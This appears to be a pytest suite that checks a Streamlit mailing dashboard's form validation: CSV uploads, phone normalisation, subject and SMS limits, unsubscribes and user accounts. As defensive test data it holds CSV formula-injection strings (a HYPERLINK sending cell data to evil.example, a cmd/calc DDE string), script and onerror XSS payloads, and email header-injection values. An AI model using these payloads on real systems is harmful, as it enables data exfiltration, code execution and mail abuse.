"""DESIGN §11 on the dashboard's forms: what staff really type and upload (files from Excel in
any encoding, formulas and emoji in names, typos in placeholders, addresses with spaces,
duplicates, HTML in a user name) gets a clear error in words on the page, or is taken as
docs/dashboard.md and docs/warehouse.md say; never an exception page, never half a write, and
what was stored before stays as it was. Driven through Streamlit's AppTest on the real app
over a real warehouse file, logged in as a sender (sam) or an admin (ada)."""

import os
import re
import shutil
import tempfile
import time
from datetime import date, timedelta
from pathlib import Path

import pytest
import streamlit as st
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from dashboards import auth
from flows.settings import settings
from tests.events import ses, soon, write_ndjson
from tests.warehouse_builders import add_people, create_sendout, run_refresh
from warehouse import unsubscribes, users
from warehouse.db import connect, open_warehouse
from warehouse.ingest import ingest_paths

APP = "../dashboards/app.py"  # AppTest resolves it against this file
PW = "a long enough password"
HEADER = "first_name,last_name,email,mobile\n"
TABLES = [
    "contacts",
    "sendouts",
    "messages",
    "sendout_left_out",
    "unsubscribe_changes",
    "users",
    "audit_entries",
]
# What a person must never read in an error: a traceback, an exception's name, a file path.
INTERNAL = re.compile(r"Traceback|\w+(Error|Exception)\b|_duckdb|File \"/|KeyError")


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    """Something to lose: five contacts (P0..P4), the send-out "News" to them, whose email to
    p1@example.com bounced as a bad address, old@example.com and +447911123456 on the
    Unsubscribes list for all messages, and two users: ada (admin) and sam (sender)."""
    folder = tmp_path_factory.mktemp("template")
    db = folder / "w.duckdb"
    add_people(db, 5)
    create_sendout(db)
    with connect(db, read_only=True) as con:
        [(message_id,)] = con.execute(
            "SELECT message_id FROM messages WHERE recipient = 'p1@example.com'"
        ).fetchall()
    bounce = ses("Bounce", "p1@example.com", message_id, status="5.1.1", at=soon())
    ingest_paths(db, [write_ndjson(folder / "bounce.ndjson", [bounce])])
    run_refresh(db)
    with open_warehouse(db) as con:
        unsubscribes.add(con, "email", "old@example.com", "all", "ops", "asked by phone")
        unsubscribes.add(con, "sms", "+447911123456", "all", "ops", "asked by phone")
        users.add(con, "ada", "admin", PW, by="setup")
        users.add(con, "sam", "sender", PW, by="setup")
    return db


@pytest.fixture
def db(template, tmp_path, monkeypatch) -> Path:
    for name in os.listdir(template.parent):
        if name.startswith(template.name):
            shutil.copy(template.parent / name, tmp_path / name)
    monkeypatch.setenv("SENDOUT_DB", str(tmp_path / template.name))
    monkeypatch.setenv("SENDOUT_LANDING", str(tmp_path / "landing"))
    for name in ("PREFECT_API_URL", "SENDOUT_SMS_SEGMENT_COST", "SENDOUT_CURRENCY"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("SENDOUT_DEFAULT_REGION", "GB")
    settings.cache_clear()
    st.cache_data.clear()
    yield tmp_path / template.name
    settings.cache_clear()


def page(view: str, user: str = "sam") -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60)
    at.session_state[auth.SESSION] = {"name": user, "seen": time.time()}
    at.run()
    return at.switch_page(f"views/{view}.py").run()


def state(db: Path) -> dict:
    with connect(db, read_only=True) as con:
        return {t: con.execute(f"SELECT * FROM {t} ORDER BY ALL").fetchall() for t in TABLES}


def rows(db: Path, sql: str, params: list | None = None) -> list[tuple]:
    with connect(db, read_only=True) as con:
        return con.execute(sql, params or []).fetchall()


def errors(at: AppTest) -> str:
    """The page's error messages, checked to be words: no exception page, no internals."""
    assert not at.exception, [e.value for e in at.exception]
    said = "\n".join(e.value for e in at.error)
    assert said, "no error is shown"
    assert not INTERNAL.search(said), said
    return said


def shown(at: AppTest) -> str:
    """Every piece of text on the page a person reads."""
    parts = []
    for kind in ("error", "warning", "info", "success", "caption", "markdown"):
        parts += [str(e.value) for e in getattr(at, kind)]
    return "\n".join(parts + [e.label for e in at.expander])


def compose(
    name: str = "Autumn news",
    subject: str = "Hello {first_name}",
    text: str = "See you soon",
    sms: str | None = None,
) -> AppTest:
    """The compose form filled in well and scheduled for later (nothing is dispatched), for
    one field at a time to be spoilt."""
    at = page("new_sendout")
    if sms is not None:
        at.multiselect(key="channels").set_value(["email", "sms"]).run()
        at.text_area(key="sms").input(sms)
    at.text_input(key="name").input(name)
    at.text_input(key="subject").input(subject)
    at.text_area(key="text").input(text)
    return at.toggle(key="later").set_value(True).run()


def upload(at: AppTest, content: bytes, filename: str = "members.csv") -> AppTest:
    at.radio(key="recipients-how").set_value("Upload a CSV").run()
    return at.file_uploader[0].set_value((filename, content, "text/csv")).run()


def send(at: AppTest) -> AppTest:
    """Press Send now (or Schedule) and, when the page asks whom it reaches, say yes."""
    at.button(key="send").click().run()
    if any(button.key == "yes" for button in at.button):
        at.button(key="yes").click().run()
    return at


def new_sendouts(db: Path) -> list[tuple]:
    return rows(db, "SELECT name, recipients FROM sendouts WHERE name <> 'News'")


# The recipients CSV of the compose page.


def test_an_empty_file_is_refused_in_words_and_nothing_is_scheduled(db):
    before = state(db)
    at = upload(compose(), b"")
    on_upload = errors(at)
    said = errors(send(at))

    assert "empty" in on_upload.lower()
    assert "empty" in said.lower()
    assert state(db) == before


def test_a_file_with_only_its_header_has_no_one_to_send_to(db):
    before = state(db)
    at = upload(compose(), HEADER.encode())
    counted = shown(at)
    said = errors(send(at))

    assert "0 people in the file" in counted
    assert re.search(r"no one|nobody|no recipient", said), said
    assert state(db) == before


@pytest.mark.parametrize(
    "encoding", ["latin-1", "utf-16"], ids=["latin-1 (Excel's CSV)", "UTF-16 with BOM"]
)
def test_a_file_that_is_not_utf8_is_refused_in_words_naming_no_server_path(db, encoding):
    """Excel on Windows saves "CSV" as Windows-1252/Latin-1 and "Unicode text" as UTF-16 with
    a BOM. The person chose members.csv; a path on the server means nothing to them (and shows
    them the server's insides)."""
    before = state(db)
    content = (HEADER + "Zoë,Müller,zoe@example.org,\n").encode(encoding)
    at = upload(compose(), content)
    said = errors(at)
    send(at)

    assert "UTF-8" in said
    assert tempfile.gettempdir() not in said and not re.search(r"/\w+/", said), said
    assert state(db) == before


def test_a_utf8_file_with_a_byte_order_mark_keeps_its_first_column(db):
    """Excel's "CSV UTF-8" starts the file with a BOM, glued to the first header cell."""
    content = (HEADER + "Zoë,Müller,zoe@example.org,\n").encode("utf-8-sig")
    at = send(upload(compose(), content))

    assert not at.exception and not at.error
    assert rows(
        db, "SELECT first_name, last_name FROM contacts WHERE email = 'zoe@example.org'"
    ) == [("Zoë", "Müller")]
    assert new_sendouts(db) == [("Autumn news", 1)]


def test_a_semicolon_separated_file_is_refused_saying_what_columns_it_needs(db):
    """Excel in much of Europe separates with semicolons."""
    before = state(db)
    content = (HEADER.replace(",", ";") + "Zoë;Müller;zoe@example.org;\n").encode()
    at = upload(compose(), content)
    said = errors(at)
    send(at)

    assert "column" in said and "email" in said
    assert state(db) == before


def test_a_column_given_twice_is_refused_naming_it(db):
    before = state(db)
    content = b"first_name,last_name,email,email,mobile\nZoe,M,zoe@example.org,z@example.net,\n"
    at = upload(compose(), content)
    said = errors(at)
    send(at)

    assert "email" in said and re.search(r"twice|more than once", said), said
    assert state(db) == before


def test_ten_thousand_rows_with_a_few_bad_ones_send_to_the_good_and_list_the_bad_by_line(db):
    lines = [f"P{n},L{n},x{n}@example.org,\n" for n in range(10_000)]
    bad = {  # line number in the file (the header is line 1) -> the row
        102: "Bad,Email,bob@,\n",
        2002: "No,Address,,\n",
        3002: "Bad,Phone,,12\n",
        4002: "Ext,Phone,,07911 123999;ext=1\n",
        5002: "Too,Many,too@example.org,,extra\n",
        6002: "Long," + "L" * 1001 + ",long@example.org,\n",
        7002: '"Open,Quote,oq@example.org,\n',  # reading starts again on the next line
    }
    for line, row in bad.items():
        lines[line - 2] = row
    before = rows(db, "SELECT * FROM contacts ORDER BY contact_id")

    at = upload(compose(), (HEADER + "".join(lines)).encode())
    read = shown(at)
    at = send(at)
    after_send = shown(at)

    assert not at.exception and not at.error
    assert "9,993 people in the file" in read
    assert "7 rows cannot be used" in read
    for line in bad:
        assert f"line {line}: " in read, line
        assert re.search(rf"(row|line) {line}: ", after_send), line
    assert new_sendouts(db) == [("Autumn news", 9_993)]
    assert rows(db, "SELECT count(*) FROM contacts WHERE email LIKE 'x%@example.org'") == [(9_993,)]
    assert rows(db, "SELECT * FROM contacts WHERE contact_id <= 5 ORDER BY contact_id") == before


def test_the_rows_left_out_stay_listed_on_the_send_outs_page(db):
    """docs/dashboard.md: "every row that cannot be used is listed on the send-out's page with
    its line and reason". Coming back to the send-out later (a reload, the next day) must
    still show them, not only the moment after pressing the button."""
    content = (HEADER + "Ann,Ok,ann@example.org,\nBad,Row,bob@,\n").encode()
    at = send(upload(compose(), content))
    sendout_id = at.session_state["sendout_id"]

    later = AppTest.from_file(APP, default_timeout=60)
    later.session_state[auth.SESSION] = {"name": "sam", "seen": time.time()}
    later.session_state["sendout_id"] = sendout_id
    later.run()
    later.switch_page("views/sendout.py").run()

    assert not later.exception
    assert "bob@" in shown(later) and re.search(r"(row|line) 3\b", shown(later))


def test_names_that_look_like_formulas_are_kept_as_written(db):
    names = [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "-2+3"),
    ]
    content = HEADER + "".join(
        f'"{first.replace(chr(34), chr(34) * 2)}",{last},f{n}@example.org,\n'
        for n, (first, last) in enumerate(names)
    )
    at = send(upload(compose(), content.encode()))

    assert not at.exception and not at.error
    stored = rows(
        db, "SELECT first_name, last_name FROM contacts WHERE email LIKE 'f_@example.org'"
    )
    assert sorted(stored) == sorted(names)
    listed = at.dataframe[0].value
    assert set(listed["first_name"]) == {first for first, _ in names}


def test_emoji_and_right_to_left_names_are_kept_exactly_and_trimmed(db):
    people = {
        "e1@example.org": ("😀 Zoë", "مريم العربية"),
        "e2@example.org": ("שָׁלוֹם", "\u202eevil\u202c"),
        "e3@example.org": ("  Ada  ", " King "),
    }
    content = HEADER + "".join(f"{f},{surname},{e},\n" for e, (f, surname) in people.items())
    at = send(upload(compose(), content.encode()))

    assert not at.exception and not at.error
    stored = dict(
        (email, (first, last))
        for email, first, last in rows(
            db,
            "SELECT email, first_name, last_name FROM contacts WHERE email LIKE 'e_@example.org'",
        )
    )
    assert stored == {
        "e1@example.org": ("😀 Zoë", "مريم العربية"),
        "e2@example.org": ("שָׁלוֹם", "\u202eevil\u202c"),
        "e3@example.org": ("Ada", "King"),
    }


def test_phone_numbers_in_national_formats_become_e164_and_bad_ones_are_listed(db):
    numbers = {  # as typed -> E.164 (the default region is GB)
        "07911 123401": "+447911123401",
        "+44 (0)7911 123402": "+447911123402",
        "07911-123-403": "+447911123403",
        "0033 6 12 34 56 78": "+33612345678",
        "+1 (415) 555-2671": "+14155552671",
        "+33 6 12 34 56 79": "+33612345679",
        "+49 1512 3456789": "+4915123456789",
        "+91 98765 43210": "+919876543210",
        "+33.6.12.34.56.80": "+33612345680",
    }
    refused = ["+44 12", "06 12 34 56 81"]  # too short; French without +33 is no GB number
    typed = list(numbers) + refused
    content = HEADER + "".join(f"N{n},Phone,,{number}\n" for n, number in enumerate(typed))
    at = compose(sms="Hello {first_name}")
    at.multiselect(key="channels").set_value(["sms"]).run()
    at = upload(at, content.encode())
    read = shown(at)
    at = send(at)

    assert not at.exception and not at.error
    for n, number in enumerate(refused, start=len(numbers) + 2):
        assert f"line {n}: '{number}'" in read
    stored = dict(rows(db, "SELECT first_name, mobile FROM contacts WHERE last_name = 'Phone'"))
    assert stored == {f"N{n}": numbers[typed[n]] for n in range(len(numbers))}
    assert new_sendouts(db) == [("Autumn news", len(numbers))]


# The rest of the compose form.


@pytest.mark.parametrize("name", ["", "   "], ids=["empty", "spaces"])
def test_a_send_out_without_a_name_is_refused(db, name):
    before = state(db)
    said = errors(send(compose(name=name)))

    assert "name" in said
    assert state(db) == before


def test_a_5000_character_subject_is_kept_whole_or_refused_in_words(db):
    subject = "Big news " + "x" * 4991
    at = send(compose(subject=subject))

    assert not at.exception
    stored = rows(db, "SELECT subject FROM sendouts WHERE name = 'Autumn news'")
    if at.error:
        assert "subject" in errors(at) and stored == []
    else:
        assert stored == [(subject,)]


@pytest.mark.parametrize("subject", ["Hello\nBcc: all@example.net", "Hello\r\nthere"])
def test_a_subject_with_a_line_break_is_refused(db, subject):
    before = state(db)
    said = errors(send(compose(subject=subject)))

    assert "line" in said
    assert state(db) == before


@pytest.mark.parametrize("field", ["subject", "text", "html", "sms"])
@pytest.mark.parametrize(
    ("typo", "named"),
    [("{frist_name}", "{frist_name}"), ("{first_name", "brace")],
    ids=["unknown placeholder", "stray brace"],
)
def test_a_placeholder_typo_is_refused_naming_it(db, field, typo, named):
    """docs/dispatch.md: validation reports an unknown {placeholder} and a stray brace, field
    by field; docs/dashboard.md: problems show under their fields."""
    before = state(db)
    at = compose(sms="Hi {first_name}")
    box = at.text_input(key=field) if field == "subject" else at.text_area(key=field)
    box.input(f"Dear {typo}, see you soon").run()
    assert not at.exception, [e.value for e in at.exception]  # as soon as it is typed
    said = errors(send(at))

    assert named in said
    assert state(db) == before


def test_html_with_a_script_is_previewed_without_running_it_and_kept_as_written(db):
    html = (
        "<p>Hi {first_name}</p><script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
    )
    at = compose()
    at.text_area(key="html").input(html).run()
    previews = at.get("html")
    at = send(at)

    assert not at.exception
    assert previews and all(not p.proto.unsafe_allow_javascript for p in previews)
    assert rows(db, "SELECT html_body FROM sendouts WHERE name = 'Autumn news'") == [(html,)]


@pytest.mark.parametrize(
    ("sms", "alphabet", "segments"),
    [
        ("x" * 2000, "GSM-7", 14),  # 153 a part
        ("€" * 80, "GSM-7", 1),  # an extension character counts two: 160
        ("€" * 81, "GSM-7", 2),
        ("😀" * 35, "UCS-2", 1),  # an emoji is two UTF-16 units: 70
        ("😀" * 36, "UCS-2", 2),
        ("Hi Zoë " + "x" * 60 + "😀", "UCS-2", 1),
    ],
    ids=["2000 chars", "80 euros", "81 euros", "35 emoji", "36 emoji", "one emoji"],
)
def test_the_sms_count_shows_alphabet_segments_and_cost(db, sms, alphabet, segments):
    at = page("new_sendout")
    at.multiselect(key="channels").set_value(["sms"]).run()
    at.text_area(key="sms").input(sms).run()

    [count] = [c.value for c in at.caption if "segment" in c.value]
    assert not at.exception
    unit = "segment" if segments == 1 else "segments"
    assert f"· {alphabet}" in count and f"· {segments} {unit} ·" in count, count
    assert f"about {segments * 0.04:.2f} GBP per recipient" in count, count


def test_a_2000_character_sms_is_kept_whole_or_refused_in_words(db):
    text = "x" * 2000
    at = send(compose(sms=text))

    assert not at.exception
    stored = rows(db, "SELECT sms_text FROM sendouts WHERE name = 'Autumn news'")
    if at.error:
        assert "SMS" in errors(at) and stored == []
    else:
        assert stored == [(text,)]


def test_a_schedule_in_the_past_is_refused(db):
    before = state(db)
    at = compose()
    at.date_input(key="day").set_value(date.today() - timedelta(days=1)).run()
    said = errors(send(at))

    assert "past" in said
    assert state(db) == before


def test_replies_forwarded_to_something_that_is_no_number_is_refused(db):
    before = state(db)
    at = compose(sms="Hi")
    at.text_input(key="forward-to").input("my office")
    said = errors(send(at))

    assert "'my office'" in said and "phone number" in said
    assert state(db) == before


# The Unsubscribes list.


def add_by_hand(
    address: str, why: str = "asked at the desk", channel="email", scope=None, user="sam"
):
    at = page("unsubscribes", user)
    at.radio(key="add-channel").set_value(channel)
    at.text_input(key="add-address").input(address)
    at.text_input(key="add-note").input(why)
    if scope:
        at.radio(key="add-scope").set_value(scope)
    return at.button(key="add").click().run()


@pytest.mark.parametrize(
    ("channel", "address", "words"),
    [
        ("email", "bob@@example..com", "not a valid email address"),
        ("email", "a b@example.com", "not a valid email address"),
        ("email", "bob@example.com\nBcc: x@example.com", "not a valid email address"),
        ("email", "+447911123458", "not a valid email address"),
        ("email", "", "No email address was given"),
        ("sms", "12", "not a valid phone number"),
        ("sms", "ann@example.com", "not a phone number"),
    ],
)
def test_a_malformed_address_is_refused_and_stays_in_the_field(db, channel, address, words):
    before = state(db)
    at = add_by_hand(address, channel=channel)
    said = errors(at)

    assert words in said
    assert at.text_input(key="add-address").value == address
    assert state(db) == before


@pytest.mark.parametrize(
    ("channel", "typed", "address"),
    [
        ("email", "  OLD@Example.COM  ", "old@example.com"),
        ("sms", "07911 123 456", "+447911123456"),
    ],
)
def test_an_address_already_listed_in_another_form_is_the_same_entry(db, channel, typed, address):
    """Emails are trimmed and lower-cased, phones put in E.164 (DESIGN §6): the entry is found
    again, not listed twice, and still blocks."""
    at = add_by_hand(typed, channel=channel)

    assert not at.exception and not at.error
    assert any(address in s.value for s in at.success)
    assert rows(
        db,
        "SELECT count(*) FROM unsubscribes WHERE channel = ? AND address = ?",
        [channel, address],
    ) == [(1,)]
    with connect(db, read_only=True) as con:
        assert unsubscribes.skip_reason(con, channel, address, "non_marketing") is not None


def test_adding_again_as_marketing_only_does_not_lift_an_entry_for_all_messages(db):
    """old@example.com asked for no messages at all. A sender (who may not remove entries:
    only admins may, with a reason and a confirmation) adds it again by hand with the scope
    "Marketing only"; the person must still get no non-marketing message."""
    at = add_by_hand("old@example.com", why="unsubscribed at the event", scope="marketing")

    assert not at.exception
    with connect(db, read_only=True) as con:
        blocked = unsubscribes.skip_reason(con, "email", "old@example.com", "non_marketing")
    assert blocked is not None, "the entry for all messages was narrowed to marketing only"


@pytest.mark.parametrize("why", ["", "   "], ids=["empty", "spaces"])
def test_adding_without_saying_why_is_refused_in_the_pages_own_words(db, why):
    before = state(db)
    at = add_by_hand("walk-in@example.com", why=why)
    said = errors(at)

    assert "why" in said.lower()
    assert "--" not in said, f"the page speaks of a command-line option: {said!r}"
    assert at.text_input(key="add-address").value == "walk-in@example.com"
    assert state(db) == before


def test_removing_needs_a_reason_and_a_confirmation(db):
    before = state(db)
    at = page("unsubscribes", "ada")
    at.selectbox(key="remove-entry").select("email old@example.com").run()
    attempts = [("", True), ("   ", True), ("added by mistake", False)]
    for why, confirm in attempts:
        at.text_input(key="remove-note").input(why)
        at.checkbox(key="remove-confirm").set_value(confirm).run()
        button = at.button(key="remove")
        if not button.disabled:
            button.click().run()
            errors(at)

    assert not at.exception
    assert state(db) == before


def test_a_note_that_looks_like_a_formula_is_exported_neutralised(db, monkeypatch):
    files = {}
    keep = MemoryMediaFileStorage.load_and_get_id

    def kept(self, data, mimetype, kind, filename=None):
        file_id = keep(self, data, mimetype, kind, filename)
        files[file_id] = data
        return file_id

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", kept)
    at = add_by_hand("walk-in@example.com", why='=HYPERLINK("http://evil.example","Click")')
    at.run()
    url = at.download_button[0].proto.url
    exported = files[url.rsplit("/", 1)[-1].split(".")[0]]
    exported = exported.decode() if isinstance(exported, bytes) else exported

    assert "'=HYPERLINK(" in exported
    assert ",=HYPERLINK(" not in exported and ',"=HYPERLINK(' not in exported
    assert "'+447911123456" in exported  # a number keeps its +, as text


# Correcting a bad address a send-out found (admins).


def correct(db: Path, new: str) -> AppTest:
    [(sendout_id,)] = rows(db, "SELECT sendout_id FROM sendouts WHERE name = 'News'")
    at = page("unsubscribes", "ada")
    at.selectbox(key="sendout-filter").select(sendout_id).run()
    at.text_input(key="new-p1@example.com").input(new)
    return at.button(key="fix-p1@example.com").click().run()


@pytest.mark.parametrize("new", ["not an address", "", "p1@example"])
def test_correcting_to_something_that_is_no_address_is_refused(db, new):
    before = state(db)
    said = errors(correct(db, new))

    assert ("No email address was given" if not new else "not a valid email address") in said
    assert state(db) == before


def test_correcting_to_another_contacts_address_is_refused(db):
    """P1's address bounced; the admin types P2's address by mistake. Two contacts with one
    address would make P2 get each send-out twice and P1's messages go to P2: docs/warehouse.md
    treats an address that is another contact's as a conflict that changes nothing."""
    before = state(db)
    at = correct(db, "P2@Example.com")

    assert not at.exception
    assert rows(db, "SELECT count(*) FROM contacts WHERE email = 'p2@example.com'") == [(1,)]
    assert at.error, "no error: the contact now shares another contact's address"
    assert state(db) == before


def test_correcting_to_an_address_on_the_list_does_not_promise_it_will_be_reached(db):
    at = correct(db, "old@example.com")

    assert not at.exception
    told = "\n".join(
        m.value for kind in ("error", "warning", "success", "info") for m in getattr(at, kind)
    )
    assert "reaches it" not in told, told
    assert "Unsubscribes" in told, told


# Users (admins).


def add_user(name: str, password: str = "another long password", role: str = "viewer") -> AppTest:
    at = page("users", "ada")
    at.text_input(key="new-user").input(name)
    at.radio(key="new-role").set_value(role)
    at.text_input(key="new-password").input(password)
    return at.button(key="FormSubmitter:add-user-form-Add user").click().run()


@pytest.mark.parametrize("name", ["sam", "SAM", " sam "])
def test_a_user_name_taken_already_is_refused_and_the_user_keeps_role_and_password(db, name):
    before = state(db)
    said = errors(add_user(name, role="admin"))

    assert "sam" in said.lower()
    assert state(db) == before
    with open_warehouse(db) as con:
        assert users.log_in(con, "sam", PW).user.role == users.Role.SENDER


@pytest.mark.parametrize("password", ["", "short"])
def test_a_password_under_10_characters_is_refused(db, password):
    before = state(db)
    said = errors(add_user("bob", password))

    assert "10 characters" in said
    assert state(db) == before


@pytest.mark.parametrize(
    "name", ["<script>alert(1)</script>", "<b>eve</b>", "", "   ", "eve\nmallory"]
)
def test_a_user_name_with_html_or_nothing_in_it_is_refused(db, name):
    before = state(db)
    said = errors(add_user(name))

    assert "user name" in said
    assert state(db) == before


def test_setting_a_short_password_is_refused_and_the_old_one_still_works(db):
    before = state(db)
    at = page("users", "ada")
    at.selectbox(key="change-user-name").select("sam").run()
    at.text_input(key="change-password").input("short").run()
    said = errors(at.button(key="set-password-button").click().run())

    assert "10 characters" in said
    assert state(db) == before
    with open_warehouse(db) as con:
        assert users.log_in(con, "sam", PW).user is not None
